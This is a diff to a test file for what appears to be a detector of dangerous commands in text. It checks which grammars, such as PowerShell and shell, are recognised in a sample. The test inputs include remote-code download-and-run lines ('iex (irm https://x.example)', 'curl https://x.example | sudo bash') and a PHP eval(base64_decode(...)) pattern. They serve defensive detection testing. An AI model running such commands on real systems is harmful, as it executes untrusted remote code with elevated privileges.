@@ -51,6 +51,17 @@ describe("the results of the stages", () => {
     expect(words).toEqual(["python3", "os.system", "bash", "curl", "sh"]);
   });
 
+  it.each([
+    ["php", "<?php eval(base64_decode($x)); // powershell", false],
+    ["sh", "iex (irm https://x.example); powershell -File a.ps1", true],
+  ])("contain trees of PowerShell only if no other grammar reads it: %s", async (tag, text, is) => {
+    const detector = await sharedDetector("extended");
+    const { regions } = detector.explain(text, { format: tag });
+    const languages = regions.flatMap(({ trees }) => trees.map(({ language }) => language));
+    expect(languages.includes("powershell")).toBe(is);
+    expect(languages.length).toBeGreaterThan(0);
+  });
+
   it("contain the syntax trees and the captures, with file and line", async () => {
     const { trees, names } = await firstRegion("Run `curl https://x.example | sudo bash`");
     expect(trees).toMatchObject([
